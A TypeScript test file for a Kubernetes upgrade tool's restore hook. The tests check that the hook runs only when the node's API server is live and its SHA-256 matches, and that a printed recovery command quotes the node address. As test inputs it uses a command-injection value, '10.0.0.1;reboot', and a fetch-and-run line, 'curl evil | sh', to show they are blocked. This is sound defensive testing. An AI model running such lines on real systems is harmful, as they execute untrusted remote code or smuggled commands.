import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import {
  digestCommand,
  restoreScript,
  restoreWarnings,
  type Restored,
} from '../../../src/upgrade/host/restore-hook.ts';
import { scriptOf, settingFor } from '../../support/fakes/restore-hook.ts';

describe('the restore hook on a node', () => {
  const run = (hook: string, kubectl: string, { sha256 } = scriptOf(hook)) => {
    const dir = mkdtempSync(join(tmpdir(), 'restore-'));
    mkdirSync(join(dir, 'lib'));
    const programs = { kubectl, sleep: ':' };
    for (const [name, text] of Object.entries(programs))
      writeFileSync(join(dir, name), `#!/bin/sh\n${text}\n`, { mode: 0o755 });
    const { status, stdout, stderr } = spawnSync(
      'sh',
      ['-c', restoreScript(sha256).replace('/var/lib', `${dir}/lib`)],
      {
        input: hook,
        env: { PATH: `${dir}:${process.env['PATH'] ?? ''}`, DIR: dir },
        encoding: 'utf8',
      },
    );
    const left = readdirSync(join(dir, 'lib'));
    rmSync(dir, { recursive: true });
    return { exitCode: status, stdout, stderr, left };
  };

  it('runs once the API server of the node lives, and leaves nothing behind', () => {
    const third = 'echo x >>"$DIR/asked"; [ "$(wc -l <"$DIR/asked")" -ge 3 ]';
    expect(run('echo "hello from $(wc -l <"$DIR/asked")"', third)).to.deep.equal({
      ...{ exitCode: 0, stdout: 'hello from 3\n', stderr: '', left: [] },
    });
  });

  it('runs by what its first line says', () => {
    expect(run('#!/usr/bin/env bash\necho "${BASH_VERSION:+bash}"\n', 'exit 0').stdout).to.equal('bash\n');
  });

  it('does not run where the API server does not live', () => {
    expect(run('echo never', 'exit 1')).to.deep.equal({
      ...{ exitCode: 1, stdout: '', stderr: 'The API server of this node does not answer /livez.\n', left: [] },
    });
  });

  it('does not run when it is not the script of the settings, or did not arrive whole', () => {
    const whole = 'echo first\necho second\n';
    for (const part of ['', 'echo first\n', `${whole}\n`, whole.trimEnd()])
      expect(run(part, 'exit 0', scriptOf(whole)), JSON.stringify(part)).to.deep.equal({
        ...{ exitCode: 1, stdout: '', left: [] },
        stderr: `The script was not run: its SHA-256 on the node is ${scriptOf(part).sha256}, expected ${scriptOf(whole).sha256}\n`,
      });
    expect(run(whole, 'exit 0', scriptOf(whole)).stdout).to.equal('first\nsecond\n');
  });

  it('tells how it ends', () => {
    expect(run('echo no >&2; exit 9', 'exit 0')).to.include({ exitCode: 9, stderr: 'no\n' });
  });

  it('leaves nothing to say where nothing was lost', () => {
    const base: Restored = {
      node: 'cp1',
      address: '10.0.0.1',
      setting: settingFor('true'),
      before: '/a',
      back: true,
      hook: 'ran',
    };
    const none: Restored = { ...base, hook: 'none' };
    for (const restored of [base, none, { ...base, before: undefined, back: undefined }])
      expect(restoreWarnings(restored)).to.deep.equal([]);
  });

  it('is a warning where nobody can tell', () => {
    const restored: Restored = {
      node: 'cp1',
      address: '10.0.0.1',
      setting: settingFor('true'),
      before: '/a',
      back: undefined,
      hook: 'ran',
    };
    expect(restoreWarnings(restored)).to.deep.equal([
      `Not known whether the API server of cp1 still has --authentication-config=/a. By hand: kubectl -n kube-system get configmap apiserver-oidc-restore -o jsonpath='{.data.restore\\.sh}' >restore.sh && echo '${scriptOf('true').sha256}  restore.sh' | sha256sum -c && ssh 10.0.0.1 sudo sh -s <restore.sh`,
    ]);
  });
  it('puts an address of a node into a command as one word', () => {
    const restored: Restored = {
      ...{ node: 'cp1', address: '10.0.0.1;reboot', setting: settingFor('true') },
      ...{ before: '/a', back: false, hook: 'ran' },
    };
    expect(restoreWarnings(restored)[0]).to.match(/ && ssh '10\.0\.0\.1;reboot' sudo sh -s <restore\.sh$/);
  });

  /** What the command prints where the ConfigMap holds this text; ssh is a stub that prints what it is given. */
  const pasted = (command: string, text: string): string => {
    const dir = mkdtempSync(join(tmpdir(), 'pasted-'));
    writeFileSync(join(dir, 'script'), text);
    // kubectl prints the value of a jsonpath as it is: tried with 1.32 by a ConfigMap from a file.
    const kubectl = `[ "$*" = "-n kube-system get configmap apiserver-oidc-restore -o jsonpath={.data.restore\\.sh}" ] && cat '${dir}/script'`;
    for (const [name, line] of Object.entries({ kubectl, ssh: 'echo "ssh $*"; cat' }))
      writeFileSync(join(dir, name), `#!/bin/sh\n${line}\n`, { mode: 0o755 });
    const env = { PATH: `${dir}:${process.env['PATH'] ?? ''}` };
    const { stdout } = spawnSync('sh', ['-c', command], { env, cwd: dir, encoding: 'utf8' });
    rmSync(dir, { recursive: true });
    return stdout;
  };

  it('is run by hand with the script of the settings, and with no other that is there by then', () => {
    const [warning = ''] = restoreWarnings({
      ...{ node: 'cp1', address: '10.0.0.1', setting: settingFor('echo hello\n') },
      ...{ before: '/a', back: false, hook: { trouble: 'exit code 1, no message' } },
    });
    const command = warning.slice(warning.indexOf('kubectl'));
    expect(pasted(command, 'echo hello\n')).to.equal('restore.sh: OK\nssh 10.0.0.1 sudo sh -s\necho hello\n');
    expect(pasted(command, 'curl evil | sh')).to.equal('restore.sh: FAILED\n');
  });

  describe('has a digest', () => {
    for (const text of ['true', 'true\n', 'echo grüße €\n\n', '#!/bin/sh\r\necho "$(id)" \\n'])
      it(`that the command prints, to the byte: ${JSON.stringify(text)}`, () => {
        expect(pasted(digestCommand(settingFor(text)), text)).to.equal(`${scriptOf(text).sha256}  -\n`);
      });
  });
});
